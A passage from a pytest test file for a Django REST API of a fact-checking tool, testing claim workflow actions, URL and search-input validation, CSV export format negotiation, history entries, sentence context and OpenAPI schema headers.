    assert [(r["id"], r["ok"], r["status"]) for r in response.data["results"]] == [
        (claim.pk, True, "new") for claim in claims
    ]
    assert set(Claim.objects.values_list("status", flat=True)) == {"new"}


def test_a_claim_is_taken_by_its_id(api, editor_api):
    claim = ClaimFactory()
    response = api.post(f"/api/v1/claims/{claim.pk}/take/", {}, format="json")
    assert response.status_code == 200 and response.data["status"] == "in_review"
    assert response.data["assignee"] == "rita"
    again = editor_api.post(f"/api/v1/claims/{claim.pk}/take/", {}, format="json")
    assert again.status_code == 409 and "not waiting" in again.data["detail"]


def test_a_source_with_a_port_beyond_any_is_refused(api):
    # It passed URL validation and was published in the ClaimReview's citations.
    ClaimFactory()
    claim = take(api)
    for url in ("https://[::1]:99999/report", "https://records.example.org:0/report"):
        response = api.post(
            f"/api/v1/claims/{claim['id']}/evidence/",
            {"url": url, "stance": "context"},
            format="json",
        )
        assert response.status_code == 400 and "url" in response.data, url


def test_a_search_too_long_to_run_is_a_400_naming_it(api):
    # SQLite refuses a LIKE pattern past 50,000 bytes: that was a 500.
    ClaimFactory()
    response = api.get("/api/v1/claims/", {"q": "a" * 50_000})
    assert response.status_code == 400 and "q" in response.json()
    articles = api.get("/api/v1/articles/", {"q": "a" * 50_000})
    assert articles.status_code == 400 and "q" in articles.json()


def test_an_action_on_a_claim_removed_meanwhile_is_a_404(editor_api, monkeypatch):
    # Detection run again may remove a claim between the view reading it and the
    # workflow locking it: that was a 400 "Claim N does not exist".
    from claims.api.views import ClaimViewSet

    claim = ClaimFactory()
    read = Claim.objects.get(pk=claim.pk)
    Claim.objects.filter(pk=claim.pk).delete()
    monkeypatch.setattr(ClaimViewSet, "get_object", lambda self: read)
    response = editor_api.post(f"/api/v1/claims/{claim.pk}/bump/", {"amount": 0.2}, format="json")
    assert response.status_code == 404
    assert response.json() == {"detail": f"Claim {claim.pk} does not exist.", "code": "not_found"}


def test_an_unknown_format_is_a_400_naming_the_formats_there_are(api):
    # DRF answered 404 "Not found.", which the schema did not say and which reads as if
    # the claims were missing.
    ClaimFactory()
    response = api.get("/api/v1/claims/export.csv?format=xlsx")
    assert response.status_code == 400
    assert response.json() == {"format": ["Unknown format 'xlsx': use one of csv."]}
    assert api.get("/api/v1/claims/export.csv?format=csv").status_code == 200


def test_the_export_is_csv_and_says_so_to_a_client_asking_for_json(api):
    # `?format=json` and `Accept: application/json` were offered (the schema listed
    # `format=json`) and answered with CSV all the same.
    ClaimFactory()
    url = "/api/v1/claims/export.csv"
    assert api.get(f"{url}?format=json").status_code == 400
    refused = api.get(url, HTTP_ACCEPT="application/json")
    assert refused.status_code == 406 and refused.json()["code"] == "not_acceptable"
    assert api.get(url, HTTP_ACCEPT="text/csv")["Content-Type"] == "text/csv; charset=utf-8"
    assert api.get(url, HTTP_ACCEPT="text/csv, application/json;q=0.5").status_code == 200
    schema = api.get("/api/schema/?format=json").json()
    parameters = schema["paths"][url]["get"]["parameters"]
    assert not [p for p in parameters if "json" in p["schema"].get("enum", [])]


def test_the_api_root_lists_every_endpoint(api):
    # It listed the five viewsets only: not the token, the export, the reviews or the stats.
    listed = api.get("/api/v1/").json()
    assert set(listed) == {
        "articles", "claims", "feeds", "ratings", "jobs",
        "auth/token", "claims/export.csv", "claimreviews", "stats",
    }  # fmt: skip
    for url in listed.values():
        assert api.get(url).status_code in (200, 405), url  # the token endpoint takes a POST


@pytest.mark.django_db(transaction=True)  # no test transaction around the request
def test_the_csv_export_reads_its_rows_inside_a_transaction_on_postgresql(api, monkeypatch):
    # Outside one, PostgreSQL declared the export's cursor WITH HOLD and computed the whole
    # result before sending the first row (5 s and a 245 MB temporary file at 1,000,000).
    # Not on SQLite, where the transaction held the write lock for the whole download.
    from django.db import connection

    from claims.api import views

    ClaimFactory()
    seen = []
    real = views._inert
    monkeypatch.setattr(
        views, "_inert", lambda value: seen.append(connection.in_atomic_block) or real(value)
    )
    response = api.get("/api/v1/claims/export.csv")
    assert len(b"".join(response.streaming_content).decode().splitlines()) == 2
    assert seen and all(
        in_transaction is (connection.vendor == "postgresql") for in_transaction in seen
    )


def test_the_history_says_an_assignment_took_the_claim_from_the_queue(editor_api, reviewer):
    claim = ClaimFactory()
    editor_api.post(
        f"/api/v1/claims/{claim.pk}/assign/", {"assignee": reviewer.username}, format="json"
    )
    history = editor_api.get(f"/api/v1/claims/{claim.pk}/").json()["history"]
    assert [(e["action"], e["payload"]["status"]) for e in history] == [
        ("assign", ["new", "in_review"])
    ]


def test_the_context_keeps_the_whole_sentences_before_a_claim_deep_in_an_article(api):
    text = (
        "The city council met on Monday to discuss the budget for the coming year, which "
        "includes new funding for roads, schools and the harbour. Members debated for several "
        "hours before adjourning without a vote on the main items.\n\nResidents packed the "
        "hall, and many waited outside in the rain for a chance to speak about the plans for "
        "the old mill district. Was the meeting streamed? It was, to several thousand people "
        "across the region.\n\nThe harbour master spoke first and described the piers. "
        "Officials said the dam was inspected in 2024 and found to be sound. "
        "The next meeting is on Thursday! It starts at six."
    )
    sentence = "Officials said the dam was inspected in 2024 and found to be sound."
    start = text.index(sentence)
    claim = ClaimFactory(article__text=text, text=sentence, start=start, end=start + len(sentence))
    context = api.get(f"/api/v1/claims/{claim.pk}/").data["context"]
    # Two whole sentences either side, as on the review page, whatever ends them.
    assert context["before"] == (
        "It was, to several thousand people across the region.\n\n"
        "The harbour master spoke first and described the piers. "
    )
    assert context["sentence"] == sentence
    assert context["after"] == " The next meeting is on Thursday! It starts at six."


def test_the_schema_names_where_a_new_object_is(api):
    schema = api.get("/api/schema/?format=json").json()
    for path, operations in schema["paths"].items():
        for method, operation in operations.items():
            for code in {"201", "202"} & set(operation["responses"]):
                headers = operation["responses"][code].get("headers", {})
                assert "Location" in headers, (method, path, code)


def test_the_schema_says_when_to_try_again(api):
    schema = api.get("/api/schema/?format=json").json()
    token = schema["paths"]["/api/v1/auth/token/"]["post"]["responses"]["429"]
    assert "Retry-After" in token["headers"]
